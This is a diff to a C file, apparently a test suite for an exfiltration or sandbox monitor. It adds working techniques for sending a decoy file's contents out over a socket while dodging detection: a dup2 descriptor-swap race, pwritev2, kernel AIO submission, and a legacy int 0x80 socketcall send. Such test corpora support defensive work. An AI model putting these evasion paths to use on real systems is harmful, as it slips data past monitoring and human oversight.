@@ -1,6 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
 /* The decoy is opened the plain way; how it leaves isn't plain. */
 #include "int80.h"
+#include <linux/aio_abi.h>
+#include <sys/uio.h>
 
 #define X32 0x40000000
 
@@ -132,6 +134,69 @@ static void through_a_broker(void)
 	await(pid);
 }
 
+/* The secret goes out, the rest of the buffer doesn't fit; meanwhile another thread puts /dev/null in the socket's
+ * place. */
+static int blocked_fd, harmless_fd;
+static pthread_t writer;
+
+static void *swap_descriptor(void *unused)
+{
+	nap_ms(200); /* until the buffers are full: there is nothing to be asked that tells it */
+	must(dup2(harmless_fd, blocked_fd), "dup2");
+	pthread_kill(writer, SIGUSR1);
+	return unused;
+}
+
+static void no_action(int number)
+{
+	(void)number;
+}
+
+static void descriptor_swapped(void)
+{
+	size_t size = 64 << 20;
+	char *data = calloc(1, size);
+	struct sigaction action = {.sa_handler = no_action}; /* without SA_RESTART */
+	pthread_t thread;
+
+	blocked_fd = dial();
+	harmless_fd = must(open("/dev/null", O_WRONLY), "open");
+	writer = pthread_self();
+	must(sigaction(SIGUSR1, &action, NULL), "sigaction");
+	take(must(open(at(DECOY), O_RDONLY), "open"), data);
+	must(-pthread_create(&thread, NULL, swap_descriptor, NULL), "pthread_create");
+	must(write(blocked_fd, data, size), "write");
+	pthread_join(thread, NULL);
+}
+
+static void pwritev2_out(void)
+{
+	int out = dial();
+	char data[ROOM];
+	struct iovec iov = {data, take(must(open(at(DECOY), O_RDONLY), "open"), data)};
+
+	must(pwritev2(out, &iov, 1, -1, 0), "pwritev2");
+}
+
+static void kernel_aio(void)
+{
+	char data[ROOM];
+	int out = dial();
+	struct iocb operation = {
+		.aio_lio_opcode = IOCB_CMD_PWRITE,
+		.aio_fildes = (uint32_t)out,
+		.aio_buf = (uintptr_t)data,
+		.aio_nbytes = take(must(open(at(DECOY), O_RDONLY), "open"), data),
+	};
+	struct iocb *operations[] = {&operation};
+	struct io_event event;
+	aio_context_t context = 0;
+
+	must(syscall(SYS_io_setup, 1, &context), "io_setup");
+	must(syscall(SYS_io_submit, context, 1, operations), "io_submit");
+	must(syscall(SYS_io_getevents, context, 1, 1, &event, NULL), "io_getevents");
+}
+
 static void int80_open(void)
 {
 	carry_away(must(int80(I386_OPEN, low(at(DECOY)), O_RDONLY, 0, 0), "int 0x80 open"));
@@ -160,6 +225,16 @@ static void int80_socketcall(void)
 	must(write(out, data, len), "write");
 }
 
+static void int80_send(void)
+{
+	int out = dial();
+	char data[ROOM];
+	size_t len = take(must(open(at(DECOY), O_RDONLY), "open"), data);
+	uint32_t args[4] = {(uint32_t)out, (uint32_t)(uintptr_t)low_copy(data, len), (uint32_t)len, 0};
+
+	must(int80(I386_SOCKETCALL, 9, (long)low_copy(args, sizeof(args)), 0, 0), "int 0x80 socketcall(SYS_SEND)");
+}
+
 static void x32_open(void)
 {
 	carry_away(must(syscall(X32 | SYS_open, at(DECOY), O_RDONLY), "x32 open"));
@@ -177,9 +252,13 @@ static const struct trick tricks[] = {
 	TRICK(fast_open),
 	TRICK(fetched_from_us),
 	TRICK(through_a_broker),
+	TRICK(descriptor_swapped),
+	TRICK(pwritev2_out),
+	TRICK(kernel_aio),
 	TRICK(int80_open),
 	TRICK(int80_connect),
 	TRICK(int80_socketcall),
+	TRICK(int80_send),
 	TRICK(x32_open),
 };
 
